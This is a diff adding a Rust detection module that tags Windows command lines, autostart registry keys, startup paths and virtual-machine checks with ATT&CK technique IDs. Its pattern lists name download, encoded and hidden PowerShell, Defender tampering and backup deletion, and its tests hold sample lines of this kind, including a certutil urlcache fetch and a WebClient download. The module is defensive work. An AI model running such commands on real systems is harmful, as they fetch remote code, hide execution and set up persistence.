@@ -1,0 +1,194 @@
+//! Command lines, registry keys and paths: which techniques of ATT&CK they stand for.
+
+/// Programs that run what they are given, and the technique of each.
+const PROGRAMS: [(&str, &str); 28] = [
+    ("powershell", "T1059.001"),
+    ("pwsh", "T1059.001"),
+    ("cmd", "T1059.003"),
+    ("%comspec%", "T1059.003"),
+    ("wscript", "T1059.005"),
+    ("cscript", "T1059.005"),
+    ("mshta", "T1218.005"),
+    ("regsvr32", "T1218.010"),
+    ("rundll32", "T1218.011"),
+    ("installutil", "T1218.004"),
+    ("msiexec", "T1218.007"),
+    ("regasm", "T1218.009"),
+    ("regsvcs", "T1218.009"),
+    ("cmstp", "T1218.003"),
+    ("msbuild", "T1127.001"),
+    ("bitsadmin", "T1197"),
+    ("start-bitstransfer", "T1197"),
+    ("certutil", "T1140"),
+    ("schtasks", "T1053.005"),
+    ("wmic", "T1047"),
+    ("vssadmin", "T1490"),
+    ("wbadmin", "T1490"),
+    ("bcdedit", "T1490"),
+    ("tasklist", "T1057"),
+    ("whoami", "T1033"),
+    ("systeminfo", "T1082"),
+    ("ipconfig", "T1016"),
+    ("python", "T1059.006"),
+];
+
+/// Words in a command line, and the technique of each.
+const WORDS: [(&str, &str); 24] = [
+    ("downloadstring", "T1105"),
+    ("downloadfile", "T1105"),
+    ("downloaddata", "T1105"),
+    ("invoke-webrequest", "T1105"),
+    ("iwr ", "T1105"),
+    ("urlcache", "T1105"),
+    ("/transfer", "T1105"),
+    ("curl ", "T1105"),
+    ("wget ", "T1105"),
+    ("-encodedcommand", "T1027.010"),
+    ("-enc ", "T1027.010"),
+    ("-e ", "T1027.010"),
+    ("frombase64string", "T1027.010"),
+    ("-w hidden", "T1564.003"),
+    ("-windowstyle hidden", "T1564.003"),
+    ("-win hidden", "T1564.003"),
+    ("set-mppreference", "T1562.001"),
+    ("add-mppreference", "T1562.001"),
+    ("netsh advfirewall", "T1562.004"),
+    ("netsh firewall", "T1562.004"),
+    ("currentversion\\run", "T1547.001"),
+    ("net user", "T1087.001"),
+    ("net localgroup", "T1069.001"),
+    ("attrib +h", "T1564.001"),
+];
+
+/// Techniques that a command line stands for.
+#[must_use]
+pub fn techniques(command: &str) -> Vec<&'static str> {
+    let lower = command.to_lowercase();
+    let mut found: Vec<&'static str> = Vec::new();
+    let programs = PROGRAMS.iter().filter(|(name, _)| names_program(&lower, name));
+    let powershell = names_program(&lower, "powershell") || names_program(&lower, "pwsh");
+    let words = WORDS.iter().filter(|(word, _)| lower.contains(word) && (powershell || !word.starts_with('-')));
+    for (_, technique) in programs.chain(words) {
+        if !found.contains(technique) {
+            found.push(technique);
+        }
+    }
+    found
+}
+
+/// Whether a program is named as a word, with or without folder and `.exe`.
+fn names_program(lower: &str, name: &str) -> bool {
+    let is_word = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.%".contains(&byte);
+    lower.match_indices(name).take(64).any(|(at, _)| {
+        let before = at.checked_sub(1).and_then(|before| lower.as_bytes().get(before));
+        let rest = lower.get(at + name.len()..).unwrap_or_default();
+        let rest = rest.strip_prefix(".exe").unwrap_or(rest);
+        before.is_none_or(|&byte| !is_word(byte)) && rest.bytes().next().is_none_or(|byte| !is_word(byte))
+    })
+}
+
+/// Ways in which a command line makes something start again.
+pub fn persists(command: &str) -> impl Iterator<Item = (&'static str, &str)> {
+    let lower = command.to_lowercase();
+    let task =
+        names_program(&lower, "schtasks") && lower.contains("/create") || lower.contains("register-scheduledtask");
+    let run = is_autostart_key(&lower)
+        && (lower.contains("reg add") || lower.contains("reg.exe add") || lower.contains("-itemproperty"));
+    let service = lower.contains("sc create") || lower.contains("sc.exe create") || lower.contains("new-service");
+    let ways = [
+        (task, "scheduled task"),
+        (run, "registry value that starts programs"),
+        (service, "service"),
+        (is_startup_folder(&lower), "file in a startup folder"),
+    ];
+    ways.into_iter().filter(|(is, _)| *is).map(move |(_, how)| (how, command))
+}
+
+/// Addresses in a command line.
+pub fn urls(command: &str) -> impl Iterator<Item = &str> {
+    let starts = command.match_indices("http").take(32).filter_map(|(at, _)| command.get(at..));
+    let starts = starts.filter(|rest| rest.starts_with("http://") || rest.starts_with("https://"));
+    starts.map(|rest| {
+        let end = rest.find(|char: char| char.is_whitespace() || "'\"`)>|<;,^".contains(char)).unwrap_or(rest.len());
+        rest.get(..end).unwrap_or_default()
+    })
+}
+
+#[must_use]
+pub fn is_startup_folder(path: &str) -> bool {
+    path.to_lowercase().replace('/', "\\").contains("start menu\\programs\\startup")
+}
+
+/// Keys whose values start programs.
+#[must_use]
+pub fn is_autostart_key(key: &str) -> bool {
+    const KEYS: [&str; 9] = [
+        "\\currentversion\\run\\",
+        "\\currentversion\\runonce\\",
+        "\\currentversion\\policies\\explorer\\run",
+        "\\currentversion\\run ",
+        "\\currentversion\\run\"",
+        "\\currentversion\\runonce ",
+        "\\winlogon\\shell",
+        "\\winlogon\\userinit",
+        "\\windows nt\\currentversion\\windows\\load",
+    ];
+    let lower = key.to_lowercase();
+    KEYS.iter().any(|known| lower.contains(known)) || lower.ends_with("\\currentversion\\run")
+}
+
+/// Keys and names that tell a virtual machine.
+#[must_use]
+pub fn is_machine_check(text: &str) -> bool {
+    const WORDS: [&str; 14] = [
+        "vmware",
+        "vbox",
+        "virtualbox",
+        "virtual machine",
+        "qemu",
+        "xen",
+        "hyper-v",
+        "systembiosversion",
+        "videobiosversion",
+        "disk\\enum",
+        "sandboxie",
+        "wine\\",
+        "parallels",
+        "vmtools",
+    ];
+    let lower = text.to_lowercase();
+    WORDS.iter().any(|word| lower.contains(word))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn programs_and_words_stand_for_techniques() {
+        let found = techniques("C:\\Windows\\System32\\cmd.exe /c powershell -w hidden -enc AAAA");
+        assert_eq!(found, ["T1059.001", "T1059.003", "T1027.010", "T1564.003"]);
+        assert_eq!(techniques("certutil -urlcache -f http://x/a b"), ["T1140", "T1105"]);
+        assert!(techniques("notepad.exe C:\\cmdlets\\my-powershell.txt").is_empty());
+    }
+
+    #[test]
+    fn ways_to_stay_are_told() {
+        let ways = |command| persists(command).map(|(how, _)| how).collect::<Vec<_>>();
+        assert_eq!(ways("schtasks /create /tn x /tr y"), ["scheduled task"]);
+        assert_eq!(
+            ways("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x"),
+            ["registry value that starts programs"]
+        );
+        assert!(ways("schtasks /query").is_empty());
+        assert!(is_autostart_key("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x"));
+        assert!(!is_autostart_key("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Running\\x"));
+    }
+
+    #[test]
+    fn addresses_end_where_the_command_goes_on() {
+        let command =
+            "powershell (New-Object Net.WebClient).DownloadFile('http://a.example/b','c'); iwr https://d.example";
+        assert_eq!(urls(command).collect::<Vec<_>>(), ["http://a.example/b", "https://d.example"]);
+    }
+}
